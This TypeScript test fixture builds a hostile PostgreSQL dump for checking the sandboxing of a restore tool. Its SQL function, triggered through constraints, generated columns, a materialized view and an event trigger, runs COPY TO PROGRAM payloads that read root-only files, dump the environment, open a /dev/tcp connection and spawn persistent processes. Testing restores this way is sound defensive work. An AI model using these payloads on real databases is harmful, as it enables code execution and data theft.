/** Ends and begins as pg_dump writes it; `body` is whatever somebody else wrote. */
export const dumpText = (body: string): string => `--
-- PostgreSQL database dump
--

-- Dumped from database version 15.20
-- Dumped by pg_dump version 15.20

SET statement_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);

${body}
--
-- PostgreSQL database dump complete
--

`;

export interface HostileAims {
  /** A folder and a file that only root may read. */
  readonly secretFolder: string;
  readonly secretFile: string;
  /** A path in a folder that everybody may write. */
  readonly openCanary: string;
  /** Somebody listens there on the machine's loopback. */
  readonly port: number;
  /** Seconds of a sleep that nobody else sleeps: names a process that shall survive. */
  readonly marker: string;
}

/** Runs one attempt, and goes on when it is refused. */
const attempt = (sql: string): string => `BEGIN ${sql} EXCEPTION WHEN OTHERS THEN NULL; END;`;
const program = (shell: string): string => attempt(`EXECUTE $q$COPY (SELECT 1) TO PROGRAM $p$${shell}$p$$q$;`);

/**
 * A database that does nothing where it is, and in a restored copy tries everything that a dump can try: by a CHECK constraint, a generated column
 * and a materialized view, all of which the server runs by itself. `ran` in the data folder counts how often it ran. (The event trigger comes last in
 * a dump, and so sees nothing of the restore.)
 */
export const hostileSql = ({ secretFolder, secretFile, openCanary, port, marker }: HostileAims): string => `
CREATE FUNCTION public.evil() RETURNS integer LANGUAGE plpgsql AS $evil$
BEGIN
  IF current_database() NOT LIKE 'rahatback_restore_%' THEN RETURN 1; END IF;
  ${program('echo x >> ran')}
  ${program(`touch ${secretFolder}/by-program`)}
  ${program(`touch ${openCanary}`)}
  ${program(`cat ${secretFile} > stolen`)}
  ${program(`ls ${secretFolder} /root /home /srv > listed 2>/dev/null`)}
  ${program(`bash -c "echo x > /dev/tcp/127.0.0.1/${port}"`)}
  ${program(`setsid sleep ${marker} > /dev/null 2>&1 &`)}
  ${program('env > environment')}
  ${attempt(`EXECUTE $q$COPY (SELECT 1) TO '${secretFolder}/by-copy'$q$;`)}
  ${attempt(`EXECUTE $q$COPY (SELECT 1) TO '${openCanary}.copy'$q$;`)}
  ${attempt(`PERFORM lo_export(lo_from_bytea(0, 'x'), '${openCanary}.lo');`)}
  ${attempt(`EXECUTE $q$COPY (SELECT pg_read_file('${secretFile}')) TO PROGRAM 'cat > stolen-too'$q$;`)}
  RETURN 1;
END $evil$;
CREATE FUNCTION public.innocent() RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $i$ BEGIN RETURN public.evil(); END $i$;
CREATE TABLE public.checked (id integer, CONSTRAINT c CHECK (public.evil() = 1));
INSERT INTO public.checked SELECT generate_series(1, 3);
CREATE TABLE public.generated (id integer, g integer GENERATED ALWAYS AS (id + public.innocent()) STORED);
INSERT INTO public.generated SELECT generate_series(1, 3);
CREATE MATERIALIZED VIEW public.seen AS SELECT public.evil() AS e;
CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $t$ BEGIN PERFORM public.evil(); END $t$;
CREATE EVENT TRIGGER hostile ON ddl_command_end EXECUTE FUNCTION public.on_ddl();
`;
